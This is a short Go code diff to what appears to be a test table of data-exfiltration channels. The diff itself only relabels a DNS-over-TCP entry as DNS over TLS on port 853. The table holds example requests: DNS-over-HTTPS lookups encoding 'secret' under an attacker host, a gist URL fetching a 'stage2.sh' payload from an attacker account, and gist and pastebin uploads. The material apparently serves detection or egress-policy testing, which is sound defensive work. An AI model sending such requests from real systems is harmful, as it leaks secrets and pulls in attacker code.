@@ -89,7 +89,7 @@ func (m *mutating) world() {
 		{"DNS over HTTPS", "GET https://dns.google/resolve?name=c2VjcmV0." + attackerHost},
 		{"DNS over HTTPS", "POST https://cloudflare-dns.com/dns-query"},
 		{"DNS over HTTPS by address", "GET https://1.1.1.1/dns-query?dns=AAABAAABAAAAAAAAAnMyBm1hbGxvcnkEdGVzdAAAEAAB"},
-		{"DNS over TCP", "tcp://1.1.1.1:53"},
+		{"DNS over TLS", "tcp://1.1.1.1:853"},
 		{"gist", "GET https://gist.githubusercontent.com/" + attacker + "/da39a3ee5e6b4b0d/raw/stage2.sh"},
 		{"gist", "POST https://api.github.com/gists"},
 		{"paste", "POST https://pastebin.com/api/api_post.php"},
